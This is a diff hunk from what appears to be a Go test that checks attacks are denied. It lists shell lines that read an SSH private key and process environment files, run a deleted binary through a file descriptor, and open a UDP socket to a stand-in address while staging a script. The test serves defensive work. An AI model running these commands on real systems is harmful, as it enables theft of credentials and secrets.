@@ -71,7 +71,7 @@ func TestAttacksAreDenied(t *testing.T) {
 printf 'tok %s' "$TOKEN" > tok.txt
 export HOME=$PWD/home; mkdir -p home/.ssh; echo generated > home/.ssh/id_ed25519
 tr '\0' '\n' < /proc/$PPID/environ > /dev/null
-cat "$HOME/.ssh/id_ed25519" > /dev/null
+cat "$HOME/.ssh/id_ed25519" /proc/self/environ > /dev/null
 echo loot > /tmp/runner_collected_$$.txt; rm /tmp/runner_collected_$$.txt
 cp /bin/true gone; exec 9< gone; rm gone; /proc/self/fd/9
 bash -c 'exec 3<> /dev/udp/203.0.113.9/9 && printf "#!/bin/sh\n" > /tmp/stage.'$$' && chmod +x /tmp/stage.'$$
